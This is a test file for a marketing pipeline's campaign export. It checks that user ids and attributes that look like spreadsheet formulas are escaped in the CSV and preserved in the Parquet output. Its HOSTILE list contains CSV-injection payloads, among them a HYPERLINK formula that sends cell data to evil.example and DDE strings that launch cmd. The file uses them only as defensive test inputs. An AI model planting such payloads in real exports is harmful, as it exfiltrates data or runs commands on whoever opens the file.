/**
 * Spreadsheet formulas in campaign exports (issue 18, item 6): user ids and exported customer attributes that start
 * with `=`, `+`, `-`, `@`, tab or CR are neutralised in the CSV (OWASP: a leading `'`), the Parquet keeps them exact.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { withDuckDB } from '../../../warehouse/db';
import { ensureWarehouseSchema } from '../../../warehouse/schema';
import { buildFeatures } from '../../../warehouse/features';
import { writeColumnsToParquet } from '../../../warehouse/parquet';
import { parsePipeline } from '../../../pipelines/load';
import { buildSegments } from '../../../segments';
import { FORMULA_START, neutraliseFormula } from '../../../segments/csv-safe';
import { csvColumns } from '../../../segments/lists';
import { tempDir } from '../../helpers/warehouse';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'plain-user',
  "o'brien",
];

const def = parsePipeline({
  name: 'inject',
  sources: {
    events: { path: 'x.csv', columns: { user_id: 'u', ts: 't', event: 'e' } },
    customers: { path: 'c.csv', static: true, columns: { user_id: 'u', attributes: ['plan'], pii: ['email'] } },
  },
  label: { event: 'buy', horizon: '7d' },
  features: { windows: ['7d'], funnel: ['view', 'cart', 'buy'] },
  campaigns: [
    {
      name: 'everyone',
      filter: { field: 'propensity', op: 'gte', value: 0 },
      action: '=not-a-formula',
      control: { share: 0 }, // every user on the list: the test is about the CSV's text
    },
  ],
  export: { hashUserIds: false, allowPii: ['email'] },
});

describe('CSV injection in campaign exports', () => {
  it('neutralises formula-like text in the CSV and keeps the Parquet exact', async () => {
    await withDuckDB(':memory:', async (conn) => {
      const dir = tempDir('fc-inject-');
      await ensureWarehouseSchema(conn);
      const ids = [...HOSTILE, ...Array.from({ length: 40 }, (_, i) => `u${i}`)];
      // Everyone viewed on two days; every third user bought once.
      for (const [i, id] of ids.entries()) {
        const rows: [string, string][] = [
          ['2024-01-10 10:00:00', 'view'],
          ['2024-01-20 10:00:00', i % 3 === 0 ? 'buy' : 'cart'],
        ];
        for (const [ts, event] of rows)
          await conn.run(
            `INSERT INTO events (user_id, ts, event, source_file, source_line, row_key)
             VALUES ($id, CAST($ts AS TIMESTAMP), $event, 'x.csv', $line, hash($id, $ts, $event))`,
            { id, ts, event, line: i },
          );
        await conn.run(
          `INSERT INTO customers (user_id, attributes, source_file, source_line) VALUES ($id, json_object('email', $email, 'plan', 'pro'), 'c.csv', $line)`,
          { id, email: i < HOSTILE.length ? HOSTILE[HOSTILE.length - 1 - i] : `${id}@example.com`, line: i },
        );
      }
      const cutoff = new Date('2024-02-01T00:00:00Z');
      const f = await buildFeatures(conn, def, { cutoff, outDir: join(dir, 'f') });
      const scoresPath = join(dir, 'scores.parquet');
      await writeColumnsToParquet(conn, scoresPath, [
        { name: 'user_id', type: 'VARCHAR', values: ids },
        { name: 'propensity', type: 'DOUBLE', values: ids.map((_, i) => (i % 10) / 10) },
        { name: 'model_version', type: 'VARCHAR', values: ids.map(() => 'v1') },
      ]);
      const r = await buildSegments(conn, {
        definition: def,
        runId: 'inject',
        cutoff,
        featuresPath: f.featuresPath,
        scoresPath,
        outDir: join(dir, 'run'),
        modelVersion: 'v1',
        seed: 1,
      });
      const list = r.campaigns[0];
      assert.equal(list.rows, ids.length);
      const read = async (sql: string, file: string) =>
        (await conn.runAndReadAll(sql, { f: file })).getRowObjects() as Record<string, string>[];
      const headers = csvColumns(def);
      const csv = await read(`SELECT * FROM read_csv($f, all_varchar = true, header = true)`, list.csvPath);
      const parquet = await read(`SELECT * FROM read_parquet($f)`, list.parquetPath);
      assert.equal(csv.length, parquet.length);

      // Parquet: exact values, hostile ones included.
      assert.deepEqual(new Set(parquet.map((p) => p.user_id)), new Set(ids));
      assert.deepEqual(
        new Set(parquet.map((p) => p.email)),
        new Set(ids.map((id, i) => (i < HOSTILE.length ? HOSTILE[HOSTILE.length - 1 - i] : `${id}@example.com`))),
      );
      // CSV: no text cell starts like a formula, and each is the neutralised form of the exact value.
      for (const [i, row] of csv.entries()) {
        const exact = parquet[i];
        // The CSV shows each column under its readable header (reasons as phrases: why_1 under "Reason 1").
        for (const col of ['user_id', 'email', 'action', 'rfm_segment', 'funnel_stage', 'why_1'])
          assert.equal(
            row[headers[col]?.header ?? col] ?? '',
            neutraliseFormula(String(exact[col] ?? '')),
            `${col} of row ${i}`,
          );
        for (const [col, v] of Object.entries(row))
          assert.ok(!FORMULA_START.test(v ?? ''), `${col}: ${JSON.stringify(v)}`);
      }
      const ownIds = new Set(csv.map((c) => c[headers.user_id.header]));
      for (const h of HOSTILE) assert.ok(ownIds.has(neutraliseFormula(h)), JSON.stringify(h));
      assert.ok(ownIds.has('\'=HYPERLINK("http://evil.example/?"&A1,"click")'));
      assert.ok(ownIds.has('plain-user') && ownIds.has("o'brien"), 'ordinary ids are untouched');
      // Numbers are not text: propensities stay numbers in the CSV.
      assert.ok(csv.every((c) => !Number.isNaN(Number(c[headers.propensity.header]))));
    });
  });
});
